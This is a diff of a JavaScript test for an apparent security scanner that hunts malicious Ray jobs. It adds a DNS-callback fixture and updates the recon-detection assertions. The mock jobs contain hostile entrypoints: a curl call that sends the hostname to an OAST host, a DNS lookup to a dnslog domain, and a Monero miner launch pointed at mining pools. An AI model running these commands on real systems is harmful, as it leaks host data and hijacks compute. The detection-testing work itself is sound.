@@ -171,13 +171,15 @@ describe('kfguard hunt --argo and --ray', () => {
         rayJob({ submission_id: 'raysubmit_recon', entrypoint: 'curl -s http://c7x1k2m9.oast.fun/$(hostname)', status: 'SUCCEEDED' }),
         rayJob({ submission_id: 'raysubmit_miner', entrypoint: 'python -c "import os; os.system(\'/tmp/dns-filter -o pool.supportxmr.com:443 --cpu-max-threads-hint 60\')"', runtime_env: { env_vars: { POOL: 'stratum+tcp://gulf.moneroocean.stream:20128' } } }),
         rayJob({ submission_id: 'raysubmit_train', entrypoint: 'python train.py --epochs 3' }),
+        rayJob({ submission_id: 'raysubmit_dnslog', entrypoint: 'python -c "import socket; socket.gethostbyname(\'abc.dnslog.cn\')"' }),
       ]),
     );
     const run = await runCli(['hunt', '--ray', api.url, '--format', 'json']);
     const report = json(run.stdout);
     const recon = report.findings.filter((f) => f.ruleId === 'job-recon-callback');
-    assert.deepEqual(recon.map((f) => f.origin.id), ['raysubmit_recon']);
-    assert.deepEqual(recon[0]?.evidence, ['OAST host c7x1k2m9.oast.fun']);
+    assert.deepEqual(recon.map((f) => f.origin.id).sort(), ['raysubmit_dnslog', 'raysubmit_recon']);
+    assert.deepEqual(recon.find((f) => f.origin.id === 'raysubmit_recon')?.evidence, ['OAST host c7x1k2m9.oast.fun']);
+    assert.deepEqual(recon.find((f) => f.origin.id === 'raysubmit_dnslog')?.evidence, ['OAST host abc.dnslog.cn']);
     const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload');
     assert.equal(miner?.origin.id, 'raysubmit_miner');
     assert.equal(miner?.origin.uiLink, `${api.url}/#/jobs/raysubmit_miner`);
